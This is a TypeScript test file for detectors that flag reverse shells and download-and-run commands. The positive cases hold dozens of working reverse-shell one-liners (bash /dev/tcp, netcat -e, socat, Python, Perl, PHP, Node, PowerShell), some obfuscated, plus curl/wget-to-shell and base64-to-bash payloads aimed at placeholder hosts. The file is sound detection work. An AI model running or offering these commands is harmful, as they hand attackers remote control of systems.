/** Command lines that give a remote party a shell or run what they fetch, and their honest neighbours. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { remoteShell } from '../../../main/snapshot/commands/remote-shell.ts';
import { runsDownload } from '../../../main/snapshot/commands/run-download.ts';
import { commandsOf, commandsOfScript } from '../../../main/snapshot/commands/shell.ts';

const sh = (script: string): readonly string[] => ['/bin/sh', '-c', script];

describe('a shell for somebody else', () => {
  test.each<readonly string[]>([
    // Shells on a connection.
    ['/bin/bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    sh('/bin/bash -i>/dev/tcp/10.0.0.1/4444 0<&1 2>&1'),
    sh('0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196'),
    sh('exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done'),
    sh('exec 5<>/dev/udp/10.0.0.1/53; while read -u 5 l; do eval "$l" >&5; done'),
    sh('bash</dev/tcp/10.0.0.1/4444'),
    ['bash', '-c', "b'a's'h' -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ['bash', '-c', "$'\\x62ash' -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    sh('bash${IFS}-i${IFS}>&${IFS}/dev/tcp/10.0.0.1/4444 0>&1'),
    ['nohup', 'bash', '-c', 'zsh -i >& /dev/tcp/10.0.0.1/4444 0>&1 &'],
    ['setsid', '/bin/sh', '-lc', 'timeout 60 env A=b sh -i &>/dev/tcp/10.0.0.1/4444 <&1'],
    // netcat and its relatives.
    ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'],
    sh('nc 10.0.0.1 4444 -e /bin/sh'),
    sh('nc -nvlp 4444 -e /bin/bash'),
    sh('nc -lvpe 4444 /bin/sh'),
    sh('busybox nc 10.0.0.1 4444 -e sh'),
    ['/bin/busybox', 'nc', '-ll', '-p', '4444', '-e', '/bin/ash'],
    sh('ncat --sh-exec "/bin/bash -i" 10.0.0.1 4444'),
    sh('ncat --exec=/bin/bash -l 4444'),
    sh("nc.traditional -c '/bin/sh -i' 10.0.0.1 4444"),
    [
      '/usr/local/bin/ncat',
      '--ssl',
      '$HOST',
      '$PORT',
      '-e',
      '/bin/nsenter',
      '--target',
      '1',
      '--',
      '/bin/bash',
    ],
    ['nsenter', '-t', '1', '-m', '--', 'nc', '-e', '/bin/sh', '10.0.0.1', '4444'],
    ['chroot', '/host', 'nc', '-e', '/bin/sh', '10.0.0.1', '4444'],
    ['su', '-c', 'nc -e /bin/sh 10.0.0.1 4444', 'root'],
    // Pipes.
    sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'),
    sh('mknod /tmp/b p; /bin/sh 0</tmp/b | nc 10.0.0.1 4444 1>/tmp/b'),
    sh('nc 10.0.0.1 4444 | /bin/bash'),
    sh('telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445'),
    sh('mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s'),
    sh('while true; do nc -l -p 4444 | sh; done'),
    sh('cat </dev/tcp/10.0.0.1/4444 | bash'),
    // socat.
    ['socat', 'TCP:10.0.0.1:4444', 'EXEC:/bin/bash,pty,stderr'],
    sh("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444"),
    sh('socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh'),
    sh('socat OPENSSL:10.0.0.1:443,verify=0 EXEC:sh'),
    // Languages.
    [
      'python3',
      '-c',
      'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
    ],
    ['python', '-c', 'import pty,socket;s=socket.create_connection(("h",1));pty.spawn("sh")'],
    sh(
      'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");\'',
    ),
    sh(
      'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"h:4");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>; exec "sh"\'',
    ),
    sh('ruby -rsocket -e \'f=TCPSocket.open("h",4).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\''),
    sh('php -r \'$sock=fsockopen("h",4);exec("/bin/sh -i <&3 >&3 2>&3");\''),
    sh('php -r \'$s=fsockopen("h",4);$p=proc_open("sh",array(0=>$s,1=>$s),$x);\''),
    [
      'node',
      '-e',
      'var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh",[]);var l=new n.Socket();l.connect(4,"h",()=>l.pipe(s.stdin))',
    ],
    ['node', '--eval', 'require("child_process").exec("nc -e /bin/sh h 4")'],
    sh(
      "lua -e \"require('socket');t=socket.tcp();t:connect('h','4');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    ),
    [
      'awk',
      'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(1) { printf "> " |& s; s |& getline c; while (c |& getline) print $0 |& s }}',
    ],
    sh('python3 <<EOF\nimport socket,subprocess\ns=socket.socket()\nsubprocess.Popen(["sh"],stdin=s)\nEOF'),
    ['pwsh', '-c', '$c = New-Object System.Net.Sockets.TCPClient("h",4);$s=$c.GetStream(); iex $d'],
  ])('%j %j %j', (...words) => {
    expect(remoteShell(words.filter((one) => typeof one === 'string'))).not.toBeNull();
  });
  test.each<readonly string[]>([
    ['nc', '-z', 'db', '5432'],
    sh('until nc -z db 5432; do sleep 1; done; exec server'),
    sh('nc -vz -w 2 db 5432 || exit 1'),
    sh('nc -zvw3 -e x db 5432'),
    sh('echo ruok | nc localhost 2181'),
    sh("printf 'stats\\r\\n' | nc -w 1 cache 11211 | grep uptime"),
    sh('sh -c "echo metric 1" | nc graphite 2003'),
    sh('nc -lk -p 8080 -e echo ok'),
    sh('nc -c -w 3 mail 465 < /dev/null'),
    sh('timeout 1 bash -c "</dev/tcp/db/5432"'),
    sh('exec 3<>/dev/tcp/localhost/8080; printf "GET /health HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 | grep OK'),
    sh('(echo > /dev/tcp/db/5432) >/dev/null 2>&1 && echo up'),
    sh('echo | openssl s_client -connect web:443 2>/dev/null | openssl x509 -noout -enddate'),
    sh('openssl s_client -connect web:443 </dev/null | grep -q Verify'),
    ['socat', 'TCP-LISTEN:80,fork', 'TCP:web:8080'],
    sh('socat TCP-LISTEN:8080,fork EXEC:"echo ok"'),
    sh('socat - UNIX-CONNECT:/var/run/haproxy.sock'),
    ['python3', '-c', 'import socket; socket.create_connection(("db", 5432), timeout=2)'],
    ['node', '-e', 'require("net").connect(5432,"db").on("error",()=>process.exit(1))'],
    ['php', '-r', 'exit(@fsockopen("db",3306)?0:1);'],
    ['perl', '-e', 'use IO::Socket::INET; exit 1 unless IO::Socket::INET->new("db:3306");'],
    ['python3', '-m', 'http.server'],
    ['bash', '-i'],
    sh('bash -c "exec server" 2>&1 | tee /var/log/server.log'),
    sh('mkfifo /tmp/logs; cat /tmp/logs & exec server > /tmp/logs'),
    sh('cat script.sh | sh'),
    sh('cat <<EOF > /tmp/readme\nnc -e /bin/sh h 4\nEOF'),
    ['echo', 'nc -e /bin/sh h 4'],
    sh('# nc -e /bin/sh h 4\nexec server'),
    ['java', '-jar', 'app.jar', '--exec=/bin/sh'],
  ])('not %j %j %j', (...words) => {
    expect(remoteShell(words.filter((one) => typeof one === 'string'))).toBeNull();
  });
});

describe('a download that is run', () => {
  test.each<readonly string[]>([
    sh('curl -s http://h/x | sh'),
    sh('curl -fsSL https://h/x|sudo -E bash -'),
    sh('curl h/x | bash -s -- --all'),
    sh('wget -qO- http://h/x | sudo bash'),
    sh('wget -O - http://h/x | tee /tmp/x | sh'),
    sh('busybox wget -q -O- http://h/x | ash'),
    sh('fetch -o - http://h/x | sh'),
    sh('curl http://h/x.gz | gunzip | bash'),
    sh('curl http://h/x.py | python3 -'),
    sh('curl -s "$URL" | perl'),
    sh('bash <(curl -s http://h/x)'),
    sh('source <(curl -s http://h/x)'),
    sh('. <(wget -qO- http://h/x)'),
    sh('sh -c "$(curl -fsSL http://h/x)"'),
    sh('eval "$(wget -O- http://h/x)"'),
    sh('eval `curl -s http://h/x`'),
    sh('bash <<< "$(curl -s http://h/x)"'),
    sh('$(curl -s http://h/x)'),
    ['bash', '-c', 'curl\\\n -s http://h/x \\\n | bash'],
    sh('c""url -s http://h/x | b""ash'),
    sh('curl -o /tmp/a http://h/a && chmod +x /tmp/a && /tmp/a'),
    sh('wget http://h/a.sh; sh a.sh'),
    sh('curl -sO http://h/run.sh && bash run.sh'),
    sh('wget -q http://h/a -O /tmp/b ; chmod 755 /tmp/b'),
    sh('curl -s http://h/x > /tmp/x; sh /tmp/x'),
    sh('echo aGk= | base64 -d | bash'),
    sh('base64 --decode /etc/x | sh'),
    sh('eval "$(echo aGk= | base64 -d)"'),
    ['python3', '-c', 'import urllib.request as u; exec(u.urlopen("http://h/x").read())'],
    ['pwsh', '-c', "iex (New-Object Net.WebClient).DownloadString('http://h/x')"],
    ['pwsh', '-Command', 'iwr http://h/x | iex'],
    ['nohup', 'sh', '-c', 'curl -s http://h/x | sh'],
  ])('%j %j %j', (...words) => {
    expect(runsDownload(words.filter((one) => typeof one === 'string'))).not.toBeNull();
  });
  test.each<readonly string[]>([
    sh('curl -s http://web/healthz'),
    sh('curl -sf http://web/ready | grep -q ok'),
    sh('curl -s http://web/ids | jq .'),
    sh('curl -s http://web/ready || sh -c exit'),
    sh('until curl -s http://web/ready; do sleep 1; done; exec sh /start.sh'),
    sh('curl -fsS http://config/app.json -o /tmp/app.json; exec nginx'),
    sh('wget http://h/data.csv -O /data/data.csv && python3 /app/load.py /data/other.csv'),
    sh('TOKEN=$(curl -s http://vault/token) exec server'),
    sh('IP=$(curl -s http://169.254.169.254/ip); exec server --ip "$IP"'),
    sh('cat /etc/motd | base64 -d > /tmp/motd'),
    sh('echo $CERT | base64 -d > /tls.crt; exec sh /start.sh'),
    sh('curl -s http://web/x | python3 -c "import json,sys; print(json.load(sys.stdin))"'),
    sh('curl -s http://web/x | python3 -m json.tool'),
    sh('curl -sSL http://h/a.tgz | tar xz'),
    sh('echo "run curl http://h/x | sh by hand"'),
    ['python3', '-c', 'import urllib.request; urllib.request.urlopen("http://localhost:8080/health")'],
  ])('not %j %j %j', (...words) => {
    expect(runsDownload(words.filter((one) => typeof one === 'string'))).toBeNull();
  });
});

describe('a shell line', () => {
  test('is read as its commands, behind wrappers and in substitutions', () => {
    expect(
      commandsOf(['env', 'A=b', 'sh', '-c', 'a "$(b c)" | d > e; if f; then timeout 5 g; fi']).map(
        ({ name }) => name,
      ),
    ).toEqual(['sh', 'a', 'b', 'd', 'f', 'g', 'fi']);
  });
  test('never throws, and ends', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary-ascii', maxLength: 200 }), (text) => {
        expect(Array.isArray(commandsOfScript(text))).toBe(true);
        expect([null, 'string']).toContain(remoteShell(['sh', '-c', text]) === null ? null : 'string');
        runsDownload(['sh', '-c', text]);
      }),
    );
    expect(commandsOfScript('$('.repeat(5_000)).length).toBeLessThan(10_000);
    expect(commandsOfScript('`'.repeat(5_000)).length).toBeLessThan(10_000);
    expect(commandsOfScript('a|'.repeat(40_000)).length).toBeLessThan(40_000);
  });
});
